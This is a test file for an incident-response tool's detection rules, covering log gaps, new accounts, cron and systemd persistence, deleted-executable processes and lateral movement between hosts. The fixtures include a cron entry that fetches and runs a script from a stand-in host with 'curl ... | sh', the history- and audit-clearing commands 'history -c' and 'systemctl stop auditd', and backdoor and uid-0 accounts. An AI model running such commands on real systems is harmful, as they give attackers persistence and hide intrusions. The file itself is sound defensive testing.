import {describe, expect, it} from 'vitest'

import type {Finding} from '../../../src/analyze/finding.js'
import {runRules} from '../../../src/analyze/rules/run.js'
import {joinedHosts} from '../../../src/analyze/rules/joined-hosts.js'
import {audit, auth, caseDb, other} from './case-db.js'

const of = (findings: Finding[], rule: string): Finding[] => findings.filter((f) => f.rule === rule)

describe('logs.gap', () => {
  it('fires when the auth log is silent for hours while the audit log shows the host running, and not when everything is quiet', async () => {
    const busy = [auth('accepted', '2026-03-04T00:00:00Z', {ip: '10.0.0.4', user: 'alice'}), audit('2026-03-04T03:00:00Z', {key: 'app_access'}), auth('accepted', '2026-03-04T09:00:00Z', {ip: '10.0.0.4', user: 'alice'})]
    const found = of(await runRules(await caseDb(busy)), 'logs.gap')
    expect(found.map((f) => [f.first, f.last])).toEqual([['2026-03-04T00:00:00.000Z', '2026-03-04T09:00:00.000Z']])
    expect(found[0]?.reason).toMatch(/the auth log was silent for 09:00:00 while 1 other events \(audit\) show the host running/)
    const quiet = [busy[0], busy[2]].filter((e) => e !== undefined)
    expect(of(await runRules(await caseDb(quiet)), 'logs.gap')).toEqual([])
  })

  it('does not count file times as the host running, and gives the audit log (watched keys only) a day of quiet', async () => {
    const fileTimes = [
      auth('accepted', '2026-03-04T00:00:00Z', {ip: '10.0.0.4', user: 'alice'}),
      other('phi-files', 'file', '2026-03-04T03:00:00Z', {mtime: '2026-03-04T03:00:00Z', path: '/var/data/phi/a', type: 'file'}, {path: '/var/data/phi/a'}),
      auth('accepted', '2026-03-04T09:00:00Z', {ip: '10.0.0.4', user: 'alice'}),
    ]
    expect(of(await runRules(await caseDb(fileTimes)), 'logs.gap')).toEqual([])
    const auditNight = [audit('2026-03-04T00:00:00Z', {key: 'app_access'}), auth('accepted', '2026-03-04T09:00:00Z', {ip: '10.0.0.4', user: 'alice'}), audit('2026-03-04T20:00:00Z', {key: 'app_access'})]
    expect(of(await runRules(await caseDb(auditNight)), 'logs.gap')).toEqual([])
    expect(of(await runRules(await caseDb(auditNight), {params: {max_audit_silence: '12h'}}), 'logs.gap').map((f) => f.reason?.slice(0, 30))).toEqual(['the audit log was silent for 2'])
  })

  it('fires on a command that clears history or stops auditd, and on auditd DAEMON_END, not on ordinary commands', async () => {
    const events = [
      other('shell-history', 'command', null, {command: 'history -c', user: 'bob'}, {user: 'bob'}),
      other('shell-history', 'command', null, {command: 'systemctl stop auditd', user: 'bob'}, {user: 'bob'}),
      audit('2026-03-04T02:10:00Z', {key: 'none', types: ['DAEMON_END']}),
      other('shell-history', 'command', null, {command: 'ls /var/log', user: 'alice'}, {user: 'alice'}),
    ]
    const found = of(await runRules(await caseDb(events)), 'logs.gap')
    expect(found).toHaveLength(2)
    expect(found.find((f) => f.user === 'bob')?.count).toBe(2)
    expect(found.find((f) => f.user === 'bob')?.reason).toContain('a command cleared logs or history, or stopped auditing: history -c')
    expect(found.find((f) => f.user === null)?.reason).toContain('auditd stopped (DAEMON_END)')
  })
})

describe('account.created', () => {
  it('fires on useradd in the auth log, on audit\'s ADD_USER and on a second uid-0 account, not on ordinary accounts', async () => {
    const events = [
      auth('other', '2026-03-04T02:20:00Z', {data: {program: 'useradd', raw: 'Mar  4 02:20:00 web1 useradd[812]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, shell=/bin/bash'}}),
      // An ADD_USER record among file-access events (which have paths; it has none).
      audit('2026-03-04T02:21:00Z', {auid: 1000, key: 'none', message: 'op=add-user acct="svc_tmp" exe="/usr/sbin/useradd" res=success', types: ['ADD_USER']}),
      audit('2026-03-04T02:22:00Z', {exe: '/usr/bin/cat', paths: ['/var/data/phi/p1.json'], user: 'alice'}),
      other('accounts', 'account', null, {gid: 0, sudo: true, uid: 0, user: 'toor'}, {uid: 0, user: 'toor'}),
      other('accounts', 'account', null, {gid: 0, sudo: true, uid: 0, user: 'root'}, {uid: 0, user: 'root'}),
      other('accounts', 'account', null, {gid: 1000, uid: 1000, user: 'alice'}, {uid: 1000, user: 'alice'}),
    ]
    const found = of(await runRules(await caseDb(events)), 'account.created')
    expect(found.map((f) => f.user).sort()).toEqual(['backdoor', 'svc_tmp', 'toor'])
    expect(found.find((f) => f.user === 'toor')?.reason).toContain('has uid 0')
    expect(found.find((f) => f.user === 'svc_tmp')?.reason).toContain('created (audit ADD_USER, by 1000)')
  })
})

describe('persistence.added', () => {
  it('fires on an item changed within a week of the latest evidence, not on an old one; a window replaces the week', async () => {
    const events = [
      auth('accepted', '2026-03-04T10:00:00Z', {ip: '10.0.0.4', user: 'alice'}),
      other('persistence', 'cron', '2026-03-04T02:30:00Z', {detail: '*/5 * * * * curl -s http://x.example/a | sh', kind: 'cron', mtime: '2026-03-04T02:30:00Z', path: '/etc/cron.d/update', user: 'root'}, {path: '/etc/cron.d/update', user: 'root'}),
      other('persistence', 'systemd-unit', '2025-01-10T00:00:00Z', {detail: '/usr/sbin/nginx', kind: 'systemd-unit', mtime: '2025-01-10T00:00:00Z', path: '/etc/systemd/system/nginx.service'}, {path: '/etc/systemd/system/nginx.service'}),
    ]
    const found = of(await runRules(await caseDb(events)), 'persistence.added')
    expect(found.map((f) => f.paths)).toEqual([['/etc/cron.d/update']])
    expect(found[0]?.reason).toContain('curl -s http://x.example/a | sh')
    const wide = of(await runRules(await caseDb(events), {window: {start: new Date('2025-01-01T00:00:00Z')}}), 'persistence.added')
    expect(wide.map((f) => f.paths[0]).sort()).toEqual(['/etc/cron.d/update', '/etc/systemd/system/nginx.service'])
  })
})

describe('process.deleted-exe', () => {
  it('fires on a process whose executable was deleted, not on others', async () => {
    const events = [
      other('processes', 'process', '2026-03-04T02:40:00Z', {exe: '/tmp/.k (deleted)', exe_deleted: true, pid: 31337, start: '2026-03-04T02:40:00Z'}, {exe: '/tmp/.k (deleted)', user: 'bob'}),
      other('processes', 'process', '2026-03-01T00:00:00Z', {exe: '/usr/sbin/sshd', exe_deleted: false, pid: 812}, {exe: '/usr/sbin/sshd', user: 'root'}),
    ]
    const found = of(await runRules(await caseDb(events)), 'process.deleted-exe')
    expect(found.map((f) => [f.user, f.paths, f.details?.exe])).toEqual([['bob', ['/tmp/.k'], '/tmp/.k']])
    expect(found[0]?.reason).toContain('31337')
  })
})

describe('auth.lateral-movement and the case timeline across hosts', () => {
  const network = (host: string, local: string, peer = '203.0.113.9') => other('network', 'socket', null, {local_address: local, local_port: '22', peer_address: peer, peer_port: '51000', state: 'ESTAB'}, {host})
  const events = [
    auth('accepted', '2026-03-04T01:00:00Z', {host: 'web1', ip: '203.0.113.9', user: 'alice'}),
    network('web1', '10.0.0.5'),
    network('db1', '10.0.0.7'),
    // Both hosts claim the docker bridge: it joins nothing.
    network('web1', '172.17.0.1', '172.17.0.2'), network('db1', '172.17.0.1', '172.17.0.3'),
    auth('accepted', '2026-03-04T01:30:00Z', {host: 'db1', ip: '10.0.0.5', user: 'alice'}),
    auth('accepted', '2026-03-04T01:40:00Z', {host: 'db1', ip: '172.17.0.1', user: 'svc'}),
    auth('accepted', '2026-03-04T01:50:00Z', {host: 'mail1', ip: '198.51.100.3', user: 'carol'}),
  ]

  it('joins a login on db1 from web1\'s address, reports both hosts, and ignores shared addresses', async () => {
    const findings = await runRules(await caseDb(events))
    const found = of(findings, 'auth.lateral-movement')
    expect(found.map((f) => [f.host, f.hosts, f.ip, f.user])).toEqual([['db1', ['web1', 'db1'], '10.0.0.5', 'alice']])
    expect(found[0]?.refs[0]).toMatch(/^IR-1_web1_.*\/network\/network\.jsonl:\d+$/)
    expect(found[0]?.reason).toContain('activity moved from web1 to db1')
    expect(joinedHosts(findings)).toEqual([['db1', 'web1']])
  })

  it('uses addresses given by the caller (the manifests) as well', async () => {
    const given = [auth('accepted', '2026-03-04T01:30:00Z', {host: 'db1', ip: '10.9.9.9', user: 'alice'})]
    const found = of(await runRules(await caseDb(given), {hostAddresses: {web1: ['10.9.9.9']}}), 'auth.lateral-movement')
    expect(found.map((f) => f.hosts)).toEqual([['web1', 'db1']])
  })
})
